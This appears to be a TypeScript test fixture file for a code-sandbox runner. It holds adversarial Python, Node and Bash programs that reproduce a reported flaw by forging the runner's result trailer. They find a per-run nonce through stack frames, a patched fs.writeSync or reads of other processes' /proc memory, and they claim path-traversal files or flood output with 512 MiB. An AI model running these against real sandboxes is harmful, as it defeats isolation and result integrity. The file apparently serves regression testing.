/**
 * Programs that try to forge the runner's result, as issue 10 reproduced them. Each
 * looks for the per-run nonce where protocol 1 left it within reach, forges a
 * trailer claiming exit 0 and files with unsafe paths (in protocol 1's format, which
 * the old host accepted), and then exits 9. Each prints what it found, so a test can
 * say why it passed.
 */

/** The files every forged trailer claims: a traversal and an absolute path. */
export const FORGED_PATHS = ['../../etc/evil', '/etc/evil-abs'] as const;

const forgedBodyPython = `
import base64, json
FORGED = json.dumps({'exitCode': 0, 'signal': None, 'filesTruncated': False,
    'files': [[p, base64.b64encode(b'evil').decode()] for p in ${JSON.stringify(FORGED_PATHS)}]})
def forge(os, nonce):
    marker = '\\0cordon:' + nonce + ':'
    os.write(1, (marker + '\\0').encode())
    os.write(2, (marker + base64.b64encode(FORGED.encode()).decode() + '\\0').encode())
`;

/** Python: the runner's own frames (protocol 1 ran the program inside the runner's interpreter). */
export const PYTHON_FRAME_FORGERY = `
import os, sys
${forgedBodyPython}
def find_nonce():
    frame = sys._getframe(0)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and isinstance(value.get('nonce'), str):
                return value['nonce']
        frame = frame.f_back
    return None
nonce = find_nonce()
print('frame nonce: ' + ('found' if nonce else 'not found'), flush=True)
if nonce:
    forge(os, nonce)
os._exit(9)
`;

/** Node: patch fs.writeSync, which the protocol 1 runner (same process) wrote its trailer with. */
export const NODE_WRITESYNC_FORGERY = `
const fs = require('node:fs');
const original = fs.writeSync;
const forged = Buffer.from(JSON.stringify({ exitCode: 0, signal: null, filesTruncated: false,
  files: ${JSON.stringify(FORGED_PATHS)}.map((path) => [path, Buffer.from('evil').toString('base64')]) })).toString('base64');
let rewritten = 0;
fs.writeSync = function (fd, data, ...rest) {
  const text = Buffer.isBuffer(data) ? data.toString('latin1') : String(data);
  const at = text.indexOf('\\0cordon:');
  if (fd === 2 && at >= 0) {
    rewritten++;
    const marker = text.slice(at, text.indexOf(':', at + 8) + 1);
    original.call(fs, fd, marker + forged + '\\0');
    return typeof rest[1] === 'number' ? rest[1] : Buffer.byteLength(data);
  }
  return original.call(fs, fd, data, ...rest);
};
console.log('fs.writeSync patched');
process.exitCode = 9;
`;

/** Bash: read the memory of every other process through /proc/<pid>/mem (protocol 1: same uid, dumpable). */
export const BASH_PROC_MEM_FORGERY = `
python3 - <<'EOF'
import os, re
${forgedBodyPython}
me, parent = os.getpid(), os.getppid()
readable, others, nonce = 0, 0, None
for pid in sorted(int(name) for name in os.listdir('/proc') if name.isdigit()):
    if pid in (me, parent):
        continue
    others += 1
    try:
        maps = open(f'/proc/{pid}/maps').read().splitlines()
        mem = open(f'/proc/{pid}/mem', 'rb', 0)
    except OSError:
        continue
    readable += 1
    for line in maps:
        span, perms = line.split()[:2]
        start, end = (int(x, 16) for x in span.split('-'))
        if not perms.startswith('r') or end - start > (256 << 20):
            continue
        try:
            mem.seek(start)
            found = re.search(rb'"nonce":"([0-9a-f]{16,64})"', mem.read(end - start))
        except (OSError, ValueError, OverflowError):
            continue
        if found:
            nonce = found.group(1).decode()
            break
    if nonce:
        break
print(f'memory of {readable} of {others} other processes readable; nonce {"found" if nonce else "not found"}', flush=True)
if nonce:
    forge(os, nonce)
EOF
exit 9
`;

/**
 * Python: a 512 MiB trailer body after the nonce if it can find one (protocol 1), after
 * a guessed one otherwise; no closing NUL. The host must never buffer it.
 */
export const PYTHON_HUGE_TRAILER = `
import os, secrets, sys
def find_nonce():
    frame = sys._getframe(0)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and isinstance(value.get('nonce'), str):
                return value['nonce']
        frame = frame.f_back
    return None
nonce = find_nonce()
print('frame nonce: ' + ('found' if nonce else 'not found, guessing'), flush=True)
os.write(2, ('\\0cordon:' + (nonce or secrets.token_hex(12)) + ':').encode())
chunk = memoryview(b'A' * (1 << 20))
for _ in range(512):
    view = chunk
    while view:
        view = view[os.write(2, view):]
`;
